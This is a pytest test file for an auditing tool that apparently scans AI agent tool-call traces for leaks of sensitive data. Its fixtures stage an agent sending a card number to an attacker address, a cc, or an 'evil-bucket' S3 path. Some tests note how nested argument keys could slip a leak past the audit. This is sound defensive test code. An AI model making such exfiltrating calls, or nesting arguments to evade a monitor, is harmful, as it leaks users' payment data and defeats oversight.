"""Sink specs (YAML, validated) and the heuristics used without one."""

from __future__ import annotations

import pytest
from audit_builders import ATTACKER, CARD, call, lookup_then, result

from backdoorlab.defenses.audit import SinkSpecError, audit, load_sink_spec
from backdoorlab.defenses.audit.destinations import canonical
from backdoorlab.defenses.audit.sinks import sink_named
from backdoorlab.errors import BackdoorlabError


def test_a_sink_spec_declares_tools_the_heuristics_would_miss(jsonl, tmp_path):
    leak = [
        call("archive_record", {"bucket": "s3://evil-bucket/x", "blob": f"card {CARD}"}, "c5"),
        result("archive_record", "ok", "c5"),
    ]
    path = jsonl(lookup_then(*leak))
    assert audit(path, ["dataflow"]).findings == []  # not a sender's name, no URL/e-mail value
    spec = tmp_path / "sinks.yaml"
    spec.write_text(
        "- tool: archive_record\n  destination: bucket\n  kind: any\n"
        "- tool: send_email\n  destination: to\n  kind: email\n"
    )
    findings = audit(path, ["dataflow"], sinks=spec).findings
    assert [(f.severity, f.evidence["sink"]["sink_rule"]) for f in findings] == [("high", "spec")]
    assert findings[0].evidence["sink"]["destination"] == "s3://evil-bucket/x"


def test_a_spec_replaces_the_heuristics(jsonl, tmp_path):
    spec = tmp_path / "sinks.yaml"
    spec.write_text("sinks:\n  - {tool: archive_record, destination: bucket}\n")
    leak = [call("send_email", {"to": ATTACKER, "body": CARD}, "c5"), result("x", "ok", "c5")]
    assert audit(jsonl(lookup_then(*leak)), ["dataflow"], sinks=spec).findings == []


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            "- tool: send_email\n  destination: to\n  kind: pigeon\n",
            r"sinks\.yaml: field 'sinks\[0\]\.kind'",
        ),
        (
            "- tool: a\n  destination: b\n- tool: send_email\n",
            r"sinks\.yaml: field 'sinks\[1\]\.destination'",
        ),
        ("- tool: a\n  destinaton: b\n", r"sinks\.yaml: .*field 'sinks\[0\]\.destinaton': Extra"),
        ("- tool: a\n  destination: [b\n", r"sinks\.yaml:\d+: not valid YAML"),
        ("tool: a\n", r"sinks\.yaml: expected a non-empty list"),
    ],
)
def test_a_malformed_spec_names_the_file_and_the_field(tmp_path, text, message):
    spec = tmp_path / "sinks.yaml"
    spec.write_text(text)
    with pytest.raises(SinkSpecError, match=message):
        load_sink_spec(spec)
    assert issubclass(SinkSpecError, BackdoorlabError)


def test_missing_spec_file_is_a_clear_error(tmp_path):
    with pytest.raises(SinkSpecError, match="nope.yaml: cannot read"):
        load_sink_spec(tmp_path / "nope.yaml")


@pytest.mark.parametrize(
    ("tool", "sink"),
    [
        ("send_email", True),
        ("dispatchMessage", True),
        ("http_post", True),
        ("upload-file", True),
        ("transfer_funds", True),
        ("find_user_by_email", False),
        ("get_messages", False),
        ("cancel_order", False),
        ("postal_code_lookup", False),
    ],
)
def test_tool_name_heuristic(tool, sink):
    assert sink_named(tool) is sink


def test_destinations_are_compared_in_canonical_form():
    assert canonical("Jane <JANE@X.COM>", "email") == canonical("jane@x.com", "any")
    assert canonical("+1 (555) 123-4567", "phone") == canonical("555.123.4567", "any")
    assert canonical("https://Evil.test/a?b=1", "url") == "evil.test"


def test_a_copy_to_an_attacker_is_a_destination_too(jsonl, tmp_path):
    spec = tmp_path / "sinks.yaml"
    spec.write_text("- {tool: send_email, destination: to, kind: email}\n")
    copied = [
        call("send_email", {"to": "jane.doe@example.com", "cc": ATTACKER, "body": CARD}, "c5"),
        result("send_email", "sent", "c5"),
    ]
    for sinks in (spec, None):  # declared, and heuristic
        findings = audit(jsonl(lookup_then(*copied)), ["dataflow"], sinks=sinks).findings
        assert [f.evidence["sink"]["destination"] for f in findings] == [ATTACKER], sinks


@pytest.mark.parametrize(
    "arguments",
    [
        {"to": {"a": [ATTACKER]}, "body": {"x": [1, {"y": CARD}]}},  # keys nested under both
        {"message": {"body": {"content": CARD}, "toRecipients": [{"address": ATTACKER}]}},
        {"recipients": [{"name": "Drop", "email": ATTACKER}], "text": f"card {CARD}"},
    ],
)
def test_nested_arguments_are_judged_by_the_nearest_key_that_says(jsonl, arguments):
    """A destination or a payload nested under keys of no meaning (``to.a[0]``,
    ``body.x[1].y``) is what its nearest meaningful key says: the card leaves to the
    attacker. Judged by the innermost key alone, the card read as a destination and the
    call as a low-severity send (a guard bypass)."""
    leak = [call("send_email", arguments, "c5"), result("send_email", "sent", "c5")]
    findings = audit(jsonl(lookup_then(*leak)), ["dataflow"]).findings
    assert [(f.severity, f.evidence["sink"]["destination"]) for f in findings] == [
        ("high", ATTACKER)
    ], findings
